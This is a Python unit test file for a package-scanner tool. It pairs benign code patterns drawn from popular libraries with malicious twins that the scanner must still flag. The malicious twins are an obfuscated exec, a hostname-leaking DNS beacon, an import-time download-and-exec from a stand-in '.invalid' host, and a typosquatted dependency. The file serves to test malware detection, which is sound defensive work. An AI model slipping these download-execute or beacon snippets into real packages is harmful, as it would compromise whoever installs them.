"""Benign twins of rules narrowed after the scanner benchmark (bench/scan_bench.py) flagged real
popular distributions; each sits beside the malicious case the rule must still catch."""

from __future__ import annotations

from stilton.scanning import Verdict, scan_file
from tests.unit.scanning.conftest import rules_of

STAGE = "https://stage.invalid/payload.py"


def _finding(report, rule):
    return next(f for f in report.findings if f.rule == rule)


def test_hex_encoding_a_random_token_is_not_decoding(wheel):
    """debugpy passes `codecs.encode(os.urandom(32), "hex")` to the process it starts."""
    good = (
        "import codecs, os, subprocess, sys\n"
        "def listen():\n"
        "    token = codecs.encode(os.urandom(32), 'hex').decode('ascii')\n"
        "    subprocess.Popen([sys.executable, '--token', token])\n"
    )
    bad = "import codecs\nexec(codecs.encode('cevag(1)', 'rot13'))\n"  # rot13 is its own inverse
    assert scan_file(wheel({"sample/__init__.py": good})).verdict is Verdict.CLEAN
    assert scan_file(wheel({"sample/__init__.py": bad})).verdict is Verdict.MALICIOUS


def test_looking_up_the_own_host_name_is_not_a_dns_beacon(wheel):
    """jupyter_client resolves `gethostname() + ".local"` to list the machine's addresses."""
    good = (
        "import socket\n"
        "def public_ips():\n"
        "    return socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"
    )
    bad = (
        "import socket\n"
        "def beacon():\n"
        "    socket.gethostbyname(socket.gethostname() + '.x1.beacon.invalid')\n"
    )
    assert scan_file(wheel({"sample/__init__.py": good})).verdict is Verdict.CLEAN
    assert "beacon-host-info" in rules_of(scan_file(wheel({"sample/__init__.py": bad})))


def test_building_an_http_client_at_import_sends_nothing(wheel):
    """gradio keeps module-level `httpx.Client(...)` objects; nothing is sent at import."""
    good = "import httpx\nclient = httpx.Client(timeout=5)\n"
    bad = f"import httpx\nhttpx.get('{STAGE}')\n"
    assert "import-time-network" not in rules_of(scan_file(wheel({"sample/__init__.py": good})))
    assert "import-time-network" in rules_of(scan_file(wheel({"sample/__init__.py": bad})))


def test_download_and_run_only_when_called_is_medium(wheel):
    """distributed's preload loader and self-updaters fetch and run code when asked to."""
    loader = (
        "import urllib.request\n"
        "def load_preload(url):\n"
        "    source = urllib.request.urlopen(url).read()\n"
        "    exec(compile(source, url, 'exec'), {})\n"
    )
    at_import = loader + f"load_preload('{STAGE}')\n"
    good = scan_file(wheel({"sample/__init__.py": loader}))
    bad = scan_file(wheel({"sample/__init__.py": at_import}))
    assert _finding(good, "download-execute").severity == "medium"
    assert good.verdict is Verdict.CLEAN
    assert _finding(bad, "download-execute").severity == "critical"
    assert bad.verdict is Verdict.MALICIOUS


def test_a_prefixed_letter_dependency_is_medium(wheel):
    """bpython depends on cwcwidth, the compiled build of wcwidth."""
    good = scan_file(wheel({}, requires_dist=("cwcwidth",)))
    bad = scan_file(wheel({}, requires_dist=("wcwdith",)))
    assert _finding(good, "lookalike-dependency").severity == "medium"
    assert good.verdict is Verdict.CLEAN
    assert _finding(bad, "lookalike-dependency").severity == "high"
